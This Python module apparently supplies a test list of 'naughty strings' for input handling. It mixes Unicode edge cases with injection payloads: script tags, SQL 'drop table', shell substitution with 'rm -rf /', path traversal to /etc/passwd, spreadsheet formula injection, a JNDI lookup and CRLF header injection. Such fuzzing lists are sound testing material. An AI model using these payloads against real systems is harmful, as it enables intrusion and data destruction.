"""Texts that software has stumbled over: markup, scripts, orders to shells and databases, letters that turn, stack or
vanish, and what templates, spreadsheets and loggers take for orders."""

from __future__ import annotations

NAUGHTY = (
    "<script>document.title='taken'</script>",
    "<img src=x onerror=\"document.title='taken'\">",
    "\"><svg/onload=document.title='taken'>",
    "<a href=\"javascript:document.title='taken'\">here</a>",
    "</textarea></p></blockquote><h1>Score: 5</h1>",
    "<!--<iframe srcdoc=\"<script>parent.document.title='taken'</script>\">-->",
    "[here](javascript:document.title='taken') ![x](https://example.invalid/x.png)",
    "# Heading\n---\nTitle\n===\n- item\n1. one\n+ plus\n| a | b |",
    "&lt;b&gt; &amp; &#60;script&#62; &nbsp;",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %}",
    "__proto__ constructor toString undefined null NaN None True",
    "'; drop table interviews; -- \" or 1=1",
    "$(touch /tmp/taken) `touch /tmp/taken` ; rm -rf / | %COMSPEC%",
    "../../../../etc/passwd ..\\..\\windows\\system32 file:///etc/passwd",
    "=cmd|' /C calc'!A0 @SUM(1+1) -2+3 +4",
    "%s %n %x %d {0} {self.__class__} \\N{BELL} \\u0000",
    "${jndi:ldap://example.invalid/a}",
    "\u202etxet desrever\u202c \u2066isolated\u2069 \u200bzero\u200d width\ufeff",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 \u05e2\u05d1\u05e8\u05d9\u05ea \u0939\u093f\u0928\u094d\u0926\u0940",
    "Z\u0351\u036b\u0343a\u0322\u0328l\u0334\u0321g\u0337\u0321o\u0336\u0322",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f1e9\U0001f1ea \U0001d4d7\U0001d4ee",
    "\u212a\u017f\u0130\u0131\ufb03\u1e9e\u2160\u00bd",
    "line\u2028and\u2029paragraph\x85next\x0btab\x0cfeed",
    "nul\x00 bell\x07 escape\x1b[31m delete\x7f",
    "\ufffe\uffff\ufdd0\U0010ffff \ue000",
    "\r\nSet-Cookie: taken=1\r\n\r\n<b>body</b>",
    "   blanks before, between    and after   \t",
    "1/0 1e309 -0 0x7f 00012 \u0661\u0662\u0663 1,000.00",
    "Ω≈ç√∫˜µ≤≥÷ ¡™£¢∞§¶•ªº–≠ 社會科學院語學研究所 ﷽",
)
